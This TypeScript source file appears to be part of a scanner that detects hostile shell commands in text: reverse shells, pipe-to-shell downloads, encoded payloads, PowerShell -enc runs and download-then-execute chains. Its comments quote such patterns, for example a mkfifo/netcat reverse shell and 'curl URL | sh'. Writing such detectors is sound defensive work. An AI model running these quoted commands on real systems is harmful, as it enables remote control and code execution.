import { traitsOf } from "../hosts.ts";
import type { Lists } from "../lists.ts";
import { carriedByNames, dumpsEnvironment, keptCommands, sendingSecrets } from "./carried.ts";
import { decodedOf } from "./decode.ts";
import type { Deed } from "./deed.ts";
import { harmsOf, takesOwnText } from "./harm.ts";
import type { Command } from "./lex.ts";
import { program } from "./program.ts";

/** What the commands of one text do, as far as it is of note. */
export function deedsOf(commands: readonly Command[], lists: Lists): Deed[] {
  const deeds: Deed[] = [];
  const pipelines = Map.groupBy(commands, (command) => command.pipeline);
  for (const pipeline of pipelines.values()) {
    deeds.push(...pipedDeeds(pipeline, lists));
    const done = pipeline.flatMap((command) => [...substitutedDeeds(command, lists), ...harmsOf(command, lists)]);
    const secret = done.some(({ name }) => name === "secret-read") || dumpsEnvironment(pipeline);
    deeds.push(...(secret ? done.map(sendingSecrets) : done));
  }
  deeds.push(...keptCommands(commands, deeds), ...downloadedAndRun(commands, lists));
  return carriedByNames(deeds);
}

const URL_WORD = /^["'(]*(?:(?:https?|ftp):\/\/|www\.)[^\s"')]+/i;
const RUNS_INPUT = new Set(["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "source", ".", "iex", "invoke-expression", "pwsh", "powershell"]);
const INTERPRETERS = new Set(["python", "python2", "python3", "node", "perl", "ruby", "php", "deno", "bun", "osascript"]);

/** `mkfifo p; cat p | sh -i | nc HOST PORT`: what a shell says goes out, what comes back it does. */
function shellOverNet(pipeline: readonly Command[]): Deed[] {
  const shell = pipeline.findIndex((command) => RUNS_INPUT.has(program(command).name));
  const net = pipeline.findIndex(
    (command, i) => i > shell && /^(?:nc|ncat|netcat|telnet|openssl)$/.test(program(command).name) && program(command).rest.length >= 2,
  );
  const [first, last] = [pipeline[0], pipeline[net]];
  if (shell < 0 || net < 0 || !first || !last) return [];
  return [{ name: "reverse-shell", start: first.start, end: last.end, detail: program(last).rest.join(" "), traits: [] }];
}

/** `curl URL | sh`, `echo … | base64 -d | sh`. */
function pipedDeeds(pipeline: readonly Command[], lists: Lists): Deed[] {
  const net = shellOverNet(pipeline);
  if (net.length > 0) return net;
  const runner = pipeline.findLastIndex((command, i) => i > 0 && takesProgram(command));
  if (runner < 1) return [];
  const before = pipeline.slice(0, runner);
  const start = (pipeline[0] as Command).start;
  const { end } = pipeline[runner] as Command;
  const decoded = decodedOf(before);
  if (decoded)
    return [
      {
        name: "encoded-run",
        start,
        end,
        detail: decoded.text ?? "",
        traits: decoded.text === null ? ["undecoded"] : [],
        ...(decoded.text ? { inner: { text: decoded.text, layer: decoded.layer } } : {}),
      },
    ];
  const own = before.find(takesOwnText);
  if (own) return [{ name: "runs-document", start, end, detail: own.words.join(" "), traits: [] }];
  const fetch = before.find((command) => isDownload(command, lists));
  return fetch ? [download("download-run", fetch, start, end, lists)] : [];
}

/** `bash <(curl URL)`, `sh -c "$(curl URL)"`, `eval "$(… | base64 -d)"`. */
function substitutedDeeds(command: Command, lists: Lists): Deed[] {
  const { name, rest } = program(command);
  const runs = name === "eval" || RUNS_INPUT.has(name) || INTERPRETERS.has(name);
  if (!runs) return [];
  const text = rest.join(" ");
  const body = /\$\((.*)/s.exec(text)?.[1];
  if (body === undefined) return scriptArgument(command, name, rest, lists);
  if (/\b(?:sed|awk|grep|cat|head|tail)\s.{0,300}\b(?:SKILL|README|AGENTS|CLAUDE)\.md\b/s.test(body))
    return [{ name: "runs-document", start: command.start, end: command.end, detail: body.slice(0, 300), traits: [] }];
  const fetcher = new RegExp(`(?:^|[\\s(|;&])(?:${[...lists.set("downloaders")].map((each) => RegExp.escape(each)).join("|")})(?:\\.exe)?\\s`, "i");
  if (fetcher.test(` ${body}`)) {
    const url = /(?:https?|ftp):\/\/[^\s"')|]+/i.exec(body)?.[0] ?? "";
    return [{ name: "download-run", start: command.start, end: command.end, detail: url, traits: url ? traitsOf(url, lists) : [] }];
  }
  const decoded = /base64|xxd|openssl\s+enc|\brev\b|\btr\s/.test(body) ? decodedOf([{ ...command, words: body.split(/[\s"'|()]+/).filter(Boolean) }]) : null;
  return decoded
    ? [
        {
          name: "encoded-run",
          start: command.start,
          end: command.end,
          detail: decoded.text ?? "",
          traits: decoded.text === null ? ["undecoded"] : [],
          ...(decoded.text ? { inner: { text: decoded.text, layer: decoded.layer } } : {}),
        },
      ]
    : [];
}

/** `bash -c "…"`, `python3 -c "…"`, `powershell -enc …`: a program as an argument. */
function scriptArgument(command: Command, name: string, rest: readonly string[], lists: Lists): Deed[] {
  const { start, end } = command;
  const flag = rest.findIndex((word) => /^(?:-[a-z]*c|-e|--eval|-command)$/i.test(word));
  const shell = RUNS_INPUT.has(name) || name === "eval";
  if (name === "powershell" || name === "pwsh") {
    const encoded = rest.findIndex((word) => /^[-/]e(?:n|nc|nco|ncod|ncode|ncoded|ncodedc\w*)?$/i.test(word));
    const value = encoded < 0 ? undefined : rest[encoded + 1];
    if (value && /^[A-Za-z0-9+/=]{16,}$/.test(value)) {
      const text = Buffer.from(value, "base64").toString("utf16le");
      return [{ name: "encoded-run", start, end, detail: text.slice(0, 400), traits: [], inner: { text, layer: "base64" } }];
    }
  }
  if (flag >= 0 && rest[flag + 1] && shell) return [{ name: "", start, end, detail: "", traits: [], inner: { text: rest[flag + 1] as string, layer: "" } }];
  if (name === "eval" && rest.length > 0) return [{ name: "", start, end, detail: "", traits: [], inner: { text: rest.join(" "), layer: "" } }];
  const code = flag >= 0 ? (rest[flag + 1] ?? "") : "";
  if (INTERPRETERS.has(name) && /\b(?:exec|eval|compile|system|spawn|popen|run)\b/.test(code)) {
    const url = /https?:\/\/[^\s"')]+/i.exec(code)?.[0];
    if (url && /urlopen|requests\.get|fetch\(|https?\.get|open-uri|LWP/.test(code))
      return [{ name: "download-run", start, end, detail: url, traits: traitsOf(url, lists) }];
    const literal = /b64decode\(\s*b?["']([A-Za-z0-9+/=]{12,})|from\(\s*["']([A-Za-z0-9+/=]{12,})["']\s*,\s*["']base64/.exec(code);
    if (literal) {
      const text = Buffer.from((literal[1] ?? literal[2]) as string, "base64").toString("utf8");
      return [{ name: "encoded-run", start, end, detail: text.slice(0, 400), traits: [], inner: { text, layer: "base64" } }];
    }
  }
  return [];
}

/** Fetches a file, and a later command of the same text runs it. */
function downloadedAndRun(commands: readonly Command[], lists: Lists): Deed[] {
  const fetched = new Map<string, Command>();
  const deeds: Deed[] = [];
  for (const command of commands) {
    const { name, rest } = program(command);
    if (isDownload(command, lists)) for (const file of outputsOf(command)) fetched.set(baseName(file), command);
    if (fetched.size === 0) continue;
    const ran =
      RUNS_INPUT.has(name) || INTERPRETERS.has(name) ? rest.find((word) => !word.startsWith("-")) : /[./]/.test(command.words[0] ?? "") ? name : undefined;
    const from = ran === undefined ? undefined : fetched.get(baseName(ran));
    if (from && from !== command) deeds.push(download("download-run", from, from.start, command.end, lists));
  }
  return deeds;
}

function outputsOf(command: Command): string[] {
  const { rest } = program(command);
  const flagged = rest.flatMap((word, i) => {
    const next = rest[i + 1];
    if (/^(?:-[a-zA-Z]*o|-[a-zA-Z]*O|--output|--output-document|-outfile|-out)$/i.test(word) && next && next !== "-") return [next];
    const joined = /^(?:-o|-O|--output(?:-document)?=)(.+)$/.exec(word)?.[1];
    return joined ? [joined] : [];
  });
  const url = rest.find((word) => URL_WORD.test(word));
  const own = url ? [url.split(/[?#]/)[0] as string] : [];
  return [...command.writes, ...flagged, ...own].filter((name) => baseName(name) !== "");
}

function baseName(path: string): string {
  return path.replace(/\/+$/, "").split(/[/\\]/).at(-1) ?? "";
}

function isDownload(command: Command, lists: Lists): boolean {
  const { name, rest } = program(command);
  return lists.set("downloaders").has(name) && rest.some((word) => URL_WORD.test(word) || /\$|\.[a-z]{2,}\//i.test(word));
}

function takesProgram(command: Command): boolean {
  const { name, rest } = program(command);
  if (RUNS_INPUT.has(name))
    return rest.every((word) => word.startsWith("-") || word === "/dev/stdin") || rest.some((word) => word === "-s" || word === "-" || word === "/dev/stdin");
  if (INTERPRETERS.has(name)) return rest.every((word) => word === "-" || word === "/dev/stdin");
  return name === "xargs" && /^(?:sh|bash|zsh)$/.test(rest.find((word) => !word.startsWith("-")) ?? "");
}

function download(name: string, fetch: Command, start: number, end: number, lists: Lists): Deed {
  const url = (fetch.words.find((word) => URL_WORD.test(word)) ?? fetch.words.find((word) => /\$|\.[a-z]{2,}\//i.test(word)) ?? "").replace(/^["'(]+/, "");
  return { name, start: Math.min(start, fetch.start), end, detail: url, traits: traitsOf(url, lists) };
}
